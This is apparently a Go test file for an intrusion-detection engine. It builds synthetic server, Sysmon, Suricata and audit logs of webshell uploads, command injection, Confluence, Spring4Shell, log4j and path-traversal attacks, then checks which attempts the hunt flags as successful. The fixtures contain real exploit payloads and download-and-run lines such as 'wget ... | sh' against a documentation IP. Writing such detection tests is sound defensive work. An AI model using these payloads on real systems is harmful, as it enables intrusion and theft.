package engine

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
)

// sized is a request answered with a number of bytes.
func sized(after time.Duration, from, request string, status, bytes int) string {
	return fmt.Sprintf("%s - - [%s] \"%s HTTP/1.1\" %d %d \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\"\n",
		from, shownDay.Add(after).Format("02/Jan/2006:15:04:05 -0700"), request, status, bytes)
}

const w3cHead = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2026-11-20 09:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"

func w3c(after time.Duration, from, method, stem, query string, status int) string {
	return fmt.Sprintf("%s 10.0.0.20 %s %s %s 443 - %s Mozilla/5.0+(Windows+NT+10.0) - %d 0 0 31\n", shownDay.Add(after).Format("2006-01-02 15:04:05"), method, stem, query, from, status)
}

func started(after time.Duration, host, user, parent, image, line string) string {
	return fmt.Sprintf(`{"EventID":1,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":%q,"TimeCreated":%q,"Image":%q,"CommandLine":%q,"User":%q,"LogonId":"0x51a00","ParentImage":%q}`+"\n",
		host, shownDay.Add(after).Format("2006-01-02T15:04:05.000Z"), image, line, user, parent)
}

func signed(after time.Duration, from, to, signature string) string {
	return fmt.Sprintf(`{"timestamp":%q,"flow_id":%d,"event_type":"alert","src_ip":%q,"src_port":51000,"dest_ip":%q,"dest_port":80,"proto":"TCP","alert":{"action":"allowed","signature_id":9000001,"signature":%q,"category":"Attempted Administrator Privilege Gain","severity":1},"app_proto":"http","direction":"to_server"}`+"\n",
		shownDay.Add(after).Format("2006-01-02T15:04:05.000000-0700"), int(after.Seconds())+10_000_000, from, to, signature)
}

func fetched(after time.Duration, from, to, uri string, status int) string {
	return fmt.Sprintf(`{"_path":"http","ts":%d.5,"uid":"H%d","id.orig_h":%q,"id.orig_p":41514,"id.resp_h":%q,"id.resp_p":8080,"method":"GET","host":"%s:8080","uri":%q,"user_agent":"Mozilla/5.0","status_code":%d,"response_body_len":512}`+"\n",
		shownDay.Add(after).Unix(), int(after.Seconds())+2e6, from, to, to, uri, status)
}

// ranBy is ranAs on a host, of an account whose name the log has.
func ranBy(after time.Duration, n int, host, account string, args ...string) string {
	syscall, execve, _ := strings.Cut(ranAs(after, n, 998, args...), "\n")
	return strings.ReplaceAll(syscall+"\x1dARCH=x86_64 SYSCALL=execve AUID=\"unset\" UID=\""+account+"\" GID=\""+account+"\" EUID=\""+account+"\"\n"+execve, "node=web1", "node="+host)
}

const (
	w3wp = `C:\Windows\System32\inetsrv\w3wp.exe`
	cmd  = `C:\Windows\System32\cmd.exe`
	pool = `IIS APPPOOL\MSExchangeOWAAppPool`
)

// A site is logs of a web server and its machine.
type site struct {
	name  string
	files map[string]string
	want  string // part of what shows that an attempt worked; "" for nothing, and no campaign of medium or above
}

// TestServers holds what a hunt says of requests to applications of several makes, and of what came of them on the machine: which
// attempts worked, and by what; what looks like one and failed stays an attempt.
func TestServers(t *testing.T) {
	m, s := time.Minute, time.Second
	before := often(40, 3*m, func(i int, after time.Duration) string {
		return sized(after-2*time.Hour, fmt.Sprintf("198.51.100.%d", 20+i%7), "GET /", 200, 5120) + sized(after-2*time.Hour+s, fmt.Sprintf("198.51.100.%d", 20+i%7), "GET /static/site.css", 200, 900)
	})
	iis := w3cHead + often(40, 3*m, func(i int, after time.Duration) string {
		return w3c(after-2*time.Hour, fmt.Sprintf("198.51.100.%d", 20+i%7), "GET", "/owa/", "-", 200)
	})
	for _, c := range []site{
		{"php: form takes a script, which is sent orders", map[string]string{
			"web1/access.log": before + sized(0, stranger, "GET /gallery/upload.php", 200, 900) + sized(20*s, stranger, "POST /gallery/upload.php", 200, 1100) +
				sized(40*s, stranger, "POST /gallery/uploads/a1.php", 200, 60) + sized(60*s, stranger, "POST /gallery/uploads/a1.php", 200, 220) + sized(80*s, stranger, "POST /gallery/uploads/a1.php", 200, 90),
			"web1/audit.log": ranAs(40*s, 501, 33, "sh", "-c", "id") + ranAs(61*s, 502, 33, "sh", "-c", "cat /etc/passwd") + ranAs(80*s, 503, 33, "sh", "-c", "uname -a")}, "a program then ran below the server"},
		{"php: command writes a file that is then asked for", map[string]string{
			"web1/access.log": before + sized(0, stranger, "GET /status.php?host=1;id", 200, 700) +
				sized(20*s, stranger, "GET /status.php?host=1;echo+PD9waHA+%7C+base64+-d+%3E+q7.php", 200, 700) +
				sized(40*s, stranger, "POST /q7.php", 200, 90) + sized(60*s, stranger, "POST /q7.php", 200, 190)}, "q7.php"},
		{"php: file that a command would write is not there", map[string]string{
			"web1/access.log": before + sized(20*s, stranger, "GET /status.php?host=1;echo+PD9waHA+%7C+base64+-d+%3E+q7.php", 200, 700) +
				sized(40*s, stranger, "POST /q7.php", 404, 90) + sized(60*s, stranger, "POST /q7.php", 404, 190)}, ""},
		{"webdav: file is put and then asked for", map[string]string{
			"web1/access.log": before + sized(0, stranger, "PUT /zz9.jsp/", 201, 0) + sized(20*s, stranger, "GET /zz9.jsp?q=ls", 200, 700)}, "zz9.jsp"},
		{"webdav: file is refused", map[string]string{
			"web1/access.log": before + sized(0, stranger, "PUT /zz9.jsp/", 405, 0) + sized(20*s, stranger, "GET /zz9.jsp", 404, 700)}, ""},
		{"confluence: expression in the path, then shells of its account", map[string]string{
			"conf1/access.log": before + sized(0, stranger, "GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", 302, 0) +
				sized(30*s, stranger, "GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22whoami%22%29%7D/", 302, 0),
			"conf1/audit.log": ranBy(s, 501, "conf1", "confluence", "id") + ranBy(31*s, 502, "conf1", "confluence", "whoami") + ranBy(95*s, 503, "conf1", "confluence", "bash", "-c", "curl http://203.0.113.77/k.sh")}, "a program then ran below the server"},
		{"confluence: expression that nothing came of", map[string]string{
			"conf1/access.log": before + sized(0, stranger, "GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", 404, 300)}, ""},
		{"spring: class loader is bent, script that it writes is asked", map[string]string{
			"app1/access.log": before + sized(0, stranger, "GET /orders?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tw77", 200, 20) +
				sized(40*s, stranger, "GET /tw77.jsp?pwd=j&cmd=id", 200, 40),
			"app1/audit.log": ranBy(41*s, 501, "app1", "spring", "id")}, "a program then ran below the server"},
		{"tomcat: manager takes an archive that is asked orders", map[string]string{
			"tc1/access.log": before + sized(0, stranger, "GET /manager/html", 401, 2000) + sized(10*s, stranger, "GET /manager/html", 200, 15000) +
				sized(30*s, stranger, "POST /manager/html/upload?org.apache.catalina.filters.CSRF_NONCE=0A", 200, 15500) +
				sized(60*s, stranger, "GET /rt55/index.jsp?cmd=id", 200, 90),
			"tc1/audit.log": ranBy(61*s, 501, "tc1", "tomcat", "sh", "-c", "id")}, "a program then ran below the server"},
		{"jenkins: script console, then a shell", map[string]string{
			"ci1/access.log": before + sized(0, stranger, "GET /script", 200, 8000) + sized(30*s, stranger, "POST /scriptText", 200, 60) + sized(50*s, stranger, "POST /scriptText", 200, 160),
			"ci1/sysmon.json": started(31*s, "ci1", `CI1\jenkins`, `C:\Program Files\Java\bin\java.exe`, cmd, "cmd.exe /c whoami") +
				started(51*s, "ci1", `CI1\jenkins`, `C:\Program Files\Java\bin\java.exe`, cmd, "cmd.exe /c ipconfig /all")}, "a program then ran below the server"},
		{"exchange: script among its own is sent orders", map[string]string{
			"ex1/u_ex261120.log": iis + w3c(0, stranger, "POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=OABVirtualDirectory", 200) + w3c(20*s, stranger, "POST", "/aspnet_client/qk3.aspx", "-", 200) + w3c(40*s, stranger, "POST", "/aspnet_client/qk3.aspx", "-", 200),
			"ex1/sysmon.json": started(21*s, "ex1", `NT AUTHORITY\SYSTEM`, w3wp, cmd, `"cmd" /c whoami`) +
				started(41*s, "ex1", `NT AUTHORITY\SYSTEM`, w3wp, cmd, `"cmd" /c net group "Domain Admins" /domain`)}, "a program then ran below the server"},
		{"sharepoint: tool pane is sent a body, then encoded powershell", map[string]string{
			"sp1/u_ex261120.log": iis + w3c(0, stranger, "POST", "/_layouts/15/ToolPane.aspx", "DisplayMode=Edit&a=/ToolPane.aspx", 200) + w3c(30*s, stranger, "GET", "/_layouts/15/inst0.aspx", "-", 200),
			"sp1/sysmon.json":    started(2*s, "sp1", `CORP\svc-sp`, w3wp, cmd, `cmd.exe /c powershell -EncodedCommand SQBuAHYAbwBrAGUA`)}, "a program then ran below the server"},
		{"node: post to the front page, then shells of its account", map[string]string{
			"n1/access.log":      before + sized(0, stranger, "POST /", 500, 120) + sized(20*s, stranger, "POST /", 303, 0) + sized(40*s, stranger, "POST /", 303, 0),
			"zeek/suricata.json": signed(20*s, stranger, "10.0.0.30", "ET WEB_SPECIFIC_APPS React Server Components React2Shell Unsafe Flight Protocol Property Access (CVE-2025-55182)"),
			"zeek/conn.log":      connected(19*s, stranger, "10.0.0.30", "3000"),
			"n1/audit.log":       ranBy(21*s, 501, "n1", "nextjs", "sh", "-c", "id") + ranBy(41*s, 502, "n1", "nextjs", "sh", "-c", "wget -q -O - http://203.0.113.77/x.sh | sh")}, "a program then ran below the server"},
		{"signature: attempt, and the server speaks to who tried", map[string]string{
			"zeek/eve.json": signed(0, stranger, "10.0.0.30", "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)"),
			"zeek/conn.log": connected(-s, stranger, "10.0.0.30", "8080") + connected(2*s, "10.0.0.30", stranger, "1389") + connected(4*s, "10.0.0.30", stranger, "8888")}, "was then spoken to from there"},
		{"signature: attempt, and nothing else", map[string]string{
			"zeek/eve.json": signed(0, stranger, "10.0.0.30", "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)"),
			"zeek/conn.log": connected(-s, stranger, "10.0.0.30", "8080") + connected(2*s, "10.0.0.30", "198.51.100.99", "443")}, ""},
		{"sensor: request that it read, then a command of an account that nobody logged in to", map[string]string{
			"zeek/http.log": fetched(0, stranger, "10.0.0.30", "/api/ping?host=1%3Bcurl+http://203.0.113.77/a+-o+a", 200),
			"n1/audit.log":  ranBy(s, 501, "n1", "pinger", "sh", "-c", "ping 1;curl http://203.0.113.77/a -o a")}, "203.0.113.77, which it named"},
		{"sensor: request that it read, and a command of somebody who logged in", map[string]string{
			"zeek/http.log": fetched(0, stranger, "10.0.0.30", "/api/ping?host=1%3Bcurl+http://203.0.113.77/a+-o+a", 200),
			"n1/audit.log":  strings.ReplaceAll(ranBy(s, 501, "n1", "ann", "id"), "auid=4294967295", "auid=1000")}, ""},
		{"inclusion: answered alike nine times, then with much more", map[string]string{
			"web1/access.log": before + often(9, 5*s, func(i int, after time.Duration) string {
				return sized(after, stranger, "GET /page.php?f="+strings.Repeat("../", i+1)+"etc/passwd", 200, 1250)
			}) + sized(60*s, stranger, "GET /page.php?f="+strings.Repeat("....//", 9)+"etc/passwd", 200, 3120)}, "it was answered with 3120 bytes, and 9 like it with about 1250"},
		{"inclusion: answered alike ten times", map[string]string{
			"web1/access.log": before + often(10, 5*s, func(i int, after time.Duration) string {
				return sized(after, stranger, "GET /page.php?f="+strings.Repeat("../", i+1)+"etc/passwd", 200, 1250+i%2)
			})}, ""},
		{"inclusion: answered by pages of all sizes", map[string]string{
			"web1/access.log": before + often(14, 5*s, func(i int, after time.Duration) string {
				return sized(after, stranger, "GET /page.php?f="+strings.Repeat("../", i+1)+"etc/passwd", 200, 1000+i*i*77%900)
			})}, ""},
		{"form: answered alike twelve times, then shortly", map[string]string{
			"web1/access.log": before + often(12, 4*s, func(i int, after time.Duration) string {
				return sized(after, stranger, "POST /login.php", 200, 2210)
			}) + sized(50*s, stranger, "POST /login.php", 200, 480) + sized(90*s, stranger, "GET /uploads/v2.php?cmd=whoami", 200, 30)}, "it was answered with 480 bytes, and 12 like it with about 2210"},
		{"form: answered alike fifteen times", map[string]string{
			"web1/access.log": before + often(15, 4*s, func(i int, after time.Duration) string {
				return sized(after, stranger, "POST /login.php", 200, 2210+i%3)
			})}, ""},
		{"form: another page first, then answered alike", map[string]string{
			"web1/access.log": before + sized(-s, stranger, "POST /login.php", 200, 480) + often(15, 4*s, func(i int, after time.Duration) string {
				return sized(after, stranger, "POST /login.php", 200, 2210)
			}) + sized(90*s, stranger, "GET /uploads/v2.php", 404, 30)}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, text := range c.files {
				write(t, dir, name, text)
			}
			found, _, err := Hunt(context.Background(), Input{Paths: []string{dir}, Workers: 2, Key: []byte("a")}, ownRules(t), nil)
			if err != nil {
				t.Fatal(err)
			}
			var told, shown []string
			for _, c := range found.Campaigns {
				if c.Level < tocsin.Medium {
					continue
				}
				told = append(told, fmt.Sprint(c.Level, " ", c.Title, ": ", c.Why))
				for _, s := range c.Steps {
					shown = append(shown, s.Shown...)
					t.Log(s.Tactic, s.Techniques, s.Actions, s.Worked, s.Summary)
				}
			}
			if c.want == "" && len(told) > 0 || c.want != "" && !slices.ContainsFunc(shown, func(s string) bool { return strings.Contains(s, c.want) }) {
				t.Errorf("%q\nshown: %q\nwant one shown by %q", told, shown, c.want)
			}
		})
	}
}
